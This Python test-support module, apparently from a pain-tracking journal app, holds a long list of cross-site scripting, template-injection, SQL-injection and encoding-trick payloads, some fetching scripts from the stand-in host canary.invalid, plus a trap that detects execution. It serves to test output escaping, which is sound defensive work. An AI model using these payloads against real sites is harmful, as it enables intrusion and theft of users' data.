"""Text that would run if it were not escaped, in every way that we know of, and a trap that tells if it did.

Each text is one that the journal takes in any field: at most 200 characters, no control characters, no space
at its ends. What a text would do is call ``alert``, move the page, or ask ``canary.invalid`` for something:
``TRAP`` catches the first, and a list of the requests the others.
"""

from __future__ import annotations

from psoas_analytics.journal import Journal
from psoas_analytics.plan import Plan, starter_plan

#: A name that no network can ever have (RFC 2606).
CANARY_HOST = "canary.invalid"

#: Runs before anything of a page; ``window.ran`` lists what was called.
TRAP = """
window.ran = []
for (const name of ['alert', 'confirm', 'prompt', 'print', 'open'])
  window[name] = (...given) => { window.ran.push(`${name}(${given})`) }
"""

_TAGS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script src=//canary.invalid/x.js></script>",
    "<script type=module>import('//canary.invalid/x.js')</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=//canary.invalid/i.png>",
    "<img srcset='//canary.invalid/i.png 1x'>",
    "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=//canary.invalid/></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='//canary.invalid/x.svg'>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<marquee onstart=alert(1)>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>",
    "<form action='javascript:alert(1)'><input type=submit></form>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<base href=//canary.invalid/>",
    "<link rel=stylesheet href=//canary.invalid/x.css>",
    "<link rel=prefetch href=//canary.invalid/x>",
    "<meta http-equiv=refresh content='0;url=//canary.invalid/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<x onclick=alert(1) tabindex=1 id=x>",
    "<dialog open onclose=alert(1)>",
    "<plaintext>",
)

_ATTRIBUTES = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    "x onmouseover=alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"/><img src=x onerror=alert(1)>',
    "` onmouseover=`alert(1)",
    '" style="background:url(//canary.invalid/a)',
    "' style='background:url(//canary.invalid/a)",
    '"accesskey="x"onclick="alert(1)',
    '" onanimationstart="alert(1)" style="animation:x 1s',
    '\\"><img src=x onerror=alert(1)>',
    '" srcdoc="<script>alert(1)</script>',
)

_BREAKERS = (
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</svg><img src=x onerror=alert(1)>",
    "</text><script>alert(1)</script><text>",
    "</desc></svg><script>alert(1)</script>",
    "</q></li></ol><script>alert(1)</script>",
    "</td></tr></table><img src=x onerror=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>",
    "</noscript><img src=x onerror=alert(1)>",
    "</iframe><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "--!><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<!--<script>",
    "<!-- -- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "*/</style><img src=x onerror=alert(1)>/*",
)

_SVG = (
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href='data:,alert(1)'/></svg>",
    "<svg><script>alert&lpar;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    "<svg><image href=//canary.invalid/i.png /></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style>@import '//canary.invalid/x.css'</style></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
)

_STYLES = (
    "<style>@import '//canary.invalid/x.css';</style>",
    "<style>*{background:url(//canary.invalid/a)}</style>",
    "<p style='background:url(//canary.invalid/a)'>",
    "<p style=animation:x onanimationend=alert(1)>",
    "}*{background:url(//canary.invalid/a)}",
    "; background: url(//canary.invalid/a);",
    "expression(alert(1))",
    "#ff0000; } body { display: none",
    "url(#x) url(//canary.invalid/a)",
    "\\3c script\\3e alert(1)",
)

_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "<a href='javascript:alert(1)' autofocus>x</a>",
    "<a href=java&Tab;script:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "![x](//canary.invalid/i.png)",
    "<javascript:alert(1)>",
)

_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ 7 * 7 }}{% raw %}",
    "{% for x in [49] %}{{ x }}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{# a comment #}",
    "${7*7}",
    "${alert(1)}",
    "`${alert(1)}`",
    "<%= 7 * 7 %>",
    "#{7*7}",
    "{{constructor.constructor('alert(1)')()}}",
    "%(alert)s {0.__class__} %s %n",
    "%{z}",
    "$\\frac{1}{2}$ \\(x\\) \\href{javascript:alert(1)}{x}",
    '#eval("7*7") #read("/etc/passwd") #image("x")',
    "#set page(width: 1pt) #pagebreak() ]",
    "= heading *bold* _x_ <label> @ref // /* */",
    "=HYPERLINK(\"http://canary.invalid/\"; 'x')",
)

_SCRIPTS = (
    "';alert(1)//",
    '";alert(1)//',
    "\\';alert(1)//",
    "'-alert(1)-'",
    '"+alert(1)+"',
    '"}};alert(1)//',
    "x\u2028alert(1)\u2028//",
    '"\u2029alert(1)\u2029//',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "__proto__",
    "constructor",
    '{"__proto__": {"x": 1}}',
    "'; DROP TABLE session; --",
    "0); alert(1); (",
)

_CHARACTERS = (
    "\u2400<script\u2400>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&lt&quot&amp;amp;&apos;&nbsp;&notit;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)\u2039/script\u203a",
    "\u202e<script>alert(1)</script>",
    "\u200b<img src=x onerror=alert(1)>\u200b",
    "<\ufeffscript>alert(1)</script>",
    "<img\u00a0src=x\u00a0onerror=alert(1)>",
    "<img src=x onerror\u0085=alert(1)>",
    "<script>\u2028alert(1)\u2028</script>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x\tonerror\n=\nalert(1)>",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467<img src=x onerror=alert(1)>",
    "\u0301\u0489<b onclick=alert(1)>\u0489\u0301",
)

INJECTIONS: tuple[str, ...] = (
    *_TAGS,
    *_ATTRIBUTES,
    *_BREAKERS,
    *_SVG,
    *_STYLES,
    *_ADDRESSES,
    *_TEMPLATES,
    *_SCRIPTS,
    *_CHARACTERS,
)


def type_everywhere(journal: Journal, text: str) -> None:
    """Put one text into every field of a journal that takes free text, in the ten days up to its today.

    The clock of the journal must stand on 2026-03-10, as that of the fixture ``journal`` does.
    """
    plan = starter_plan(journal.catalog)
    journal.set_plan(Plan(plan.items, title=text, author=text), starts_on="2026-03-02")
    for day in range(1, 11):
        journal.log_pain(4, site=injected_site(text), at=f"2026-03-{day:02}T08:00", note=text)
    journal.log_pain(3, site="groin", at="2026-03-04T08:00", note=text)
    journal.log_session(
        [{"exercise_id": "glute-bridge", "side": "both", "reps": 15, "hold_s": 5, "pain_nrs": 2}],
        started_at="2026-03-05T08:00",
        note=text,
    )
    journal.log_skip("glute-bridge", day="2026-03-06", reason="other", note=text)
    journal.log_skip(None, day="2026-03-06", reason="other", note=text)
    journal.pause("2026-03-07", "2026-03-08", reason=text)
    journal.log_event(text, day="2026-03-09", kind="treatment")
    journal.log_question(text, at="2026-03-09T08:00")
    journal.log_flexibility(
        "modified_thomas_hip_extension", side="left", readings=[1], at="2026-03-09T08:00", note=text
    )
    journal.log_questionnaire("PSFS", {text: 4}, at="2026-03-09T08:00")


def injected_site(text: str) -> str:
    """The text as a site of pain, which is one line and shorter."""
    return f"other: {' '.join(text.split())}"[:67].strip()
